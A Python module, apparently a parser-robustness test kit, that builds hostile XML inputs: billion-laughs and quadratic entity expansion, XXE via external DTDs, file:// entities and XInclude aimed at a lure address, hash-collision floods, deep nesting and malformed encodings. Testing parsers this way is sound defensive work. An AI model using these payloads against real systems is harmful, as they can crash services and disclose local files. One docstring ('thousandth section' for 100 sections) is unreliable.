"""XML of no known vocabulary, and of some that are."""

from __future__ import annotations

from hostile.kit.words import GOOD, LURE, colliding_keys, many, write_sentence, write_text

SUFFIX = "xml"
_JATS = "<article><front><article-meta><title-group><article-title>{title}</article-title></title-group></article-meta>"


def _wrap(body: str, prolog: str = "") -> bytes:
    return f"<?xml version='1.0'?>{prolog}<doc><title>Ice</title>{body}<p>{GOOD}</p></doc>".encode()


def entity_amplification() -> bytes:
    """Ten entities, each of them ten times the one before."""
    named = "".join(f"<!ENTITY e{n} '{f'&e{n - 1};' * 10}'>" for n in range(1, 10))
    return _wrap("<p>&e9;</p>", f"<!DOCTYPE doc [<!ENTITY e0 'ice '>{named}]>")


def repeated_part() -> bytes:
    """One entity of 60 kB named twenty thousand times: quadratic, without any nesting."""
    return _wrap(f"<p>{'&e;' * 20_000}</p>", f"<!DOCTYPE doc [<!ENTITY e '{'ice ' * 15_000}'>]>")


def external_reference() -> bytes:
    """A DTD, parameter entities, a style sheet, a schema and XInclude that stand elsewhere."""
    dtd = (
        f'<!DOCTYPE doc SYSTEM "{LURE.address}.dtd" [<!ENTITY f SYSTEM '
        f'"file://{LURE.file}"><!ENTITY % p SYSTEM "{LURE.address}">%p;]>'
    )
    include = f'<i:include xmlns:i="http://www.w3.org/2001/XInclude" href="{LURE.file}" parse="text"/>'
    return _wrap(f"<p>{GOOD} &f;</p>{include}", f'<?xml-stylesheet href="{LURE.address}"?>{dtd}')


def deep_nesting() -> bytes:
    """Three hundred thousand elements inside each other."""
    return _wrap("<a>" * 300_000 + "ice" + "</a>" * 300_000)


def attribute_flood() -> bytes:
    """Forty thousand attributes on one element, names that weak hashes confuse."""
    flood = " ".join(f'{key}="1"' for key in colliding_keys(40_000))
    return _wrap(f"<p {flood}>Ice.</p>")


def colliding_names() -> bytes:
    """Sixteen thousand element names that weak hashes confuse."""
    return _wrap("".join(f"<{key}>Ice is cold.</{key}>" for key in colliding_keys(many(16_384))))


def wrong_namespace() -> bytes:
    """A new namespace for the same prefix on each of twenty thousand elements, most of them reserved or nonsense."""
    return _wrap("".join(f'<x:p xmlns:x="urn:{n}">{write_sentence(n)}</x:p>' for n in range(many(20_000))))


def reference_cycle() -> bytes:
    """Entities that name each other in a circle."""
    return _wrap("<p>&a;</p>", "<!DOCTYPE doc [<!ENTITY a '&b;'><!ENTITY b '&c;'><!ENTITY c '&a;'>]>")


def lying_encoding() -> bytes:
    """Declares UTF-16 in the bytes of UTF-8, with halves of surrogates as character references."""
    return f"<?xml version='1.0' encoding='UTF-16'?><doc><p>{GOOD} &#xD800;&#x110000; \xe9</p></doc>".encode()


def giant_title() -> bytes:
    """An article whose title has nine million characters."""
    return (_JATS.format(title="ice " * many(2_250_000)) + f"</front><body><p>{GOOD}</p></body></article>").encode()


def many_notes() -> bytes:
    """Thirty thousand footnotes, all named by one sentence and by each other."""
    notes = "".join(f'<fn id="n{n}"><p>Note <xref rid="n{n + 1}">x</xref>.</p></fn>' for n in range(many(30_000)))
    named = "".join(f'<xref rid="n{n}">{n}</xref>' for n in range(many(30_000)))
    return (
        _JATS.format(title="Ice") + f"</front><body><p>{GOOD} {named}</p></body><back>{notes}</back></article>"
    ).encode()


def huge_number() -> bytes:
    """A table whose cells span two thousand million columns and rows."""
    cells = '<td colspan="2147483647" rowspan="2147483647">Ice</td>' * 200
    return (
        _JATS.format(title="Ice")
        + f"</front><body><p>{GOOD}</p><table>{f'<tr>{cells}</tr>' * 50}</table></body></article>"
    ).encode()


def truncation() -> bytes:
    """An article that ends inside an attribute of its thousandth section."""
    sections = "".join(f"<sec><title>{n}</title><p>{write_text(3)}</p>" for n in range(100))
    return (_JATS.format(title="Ice") + "</front><body>" + sections + '<sec id="').encode()
